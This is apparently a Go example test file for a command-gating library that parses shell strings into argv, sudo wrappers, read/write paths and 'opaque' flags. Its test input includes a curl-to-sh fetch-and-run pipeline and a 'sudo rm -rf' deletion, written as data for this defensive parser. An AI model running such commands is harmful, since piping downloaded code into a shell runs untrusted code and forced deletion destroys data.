package facts_test

import (
	"fmt"

	"github.com/callgate/callgate/engine/facts"
)

func ExampleParseShell() {
	commands, err := facts.ParseShell(`cd src && sudo rm -rf build; curl -s https://x.example | sh`)
	if err != nil {
		fmt.Println(err)
	}
	for _, c := range commands {
		fmt.Printf("%q via %q reads %q writes %q opaque %v\n", c.Argv, c.Via, c.Reads, c.Writes, c.Opaque)
	}
	_, err = facts.ParseShell(`echo "unfinished`)
	fmt.Println(err)
	// Output:
	// ["cd" "src"] via [] reads ["src"] writes [] opaque false
	// ["rm" "-rf" "build"] via ["sudo"] reads [] writes ["src/build"] opaque false
	// ["curl" "-s" "https://x.example"] via [] reads [] writes [] opaque false
	// ["sh"] via [] reads [] writes [] opaque true
	// facts_unparsable: the command cannot be read in one way
}

func ExampleParseArgv() {
	commands, err := facts.ParseArgv([]string{"git", "commit", "-m", "a; b $x"})
	if err != nil {
		fmt.Println(err)
	}
	for _, c := range commands {
		fmt.Printf("%s %q opaque %v\n", c.Name, c.Argv, c.Opaque)
	}
	// Output:
	// git ["git" "commit" "-m" "a; b $x"] opaque false
}
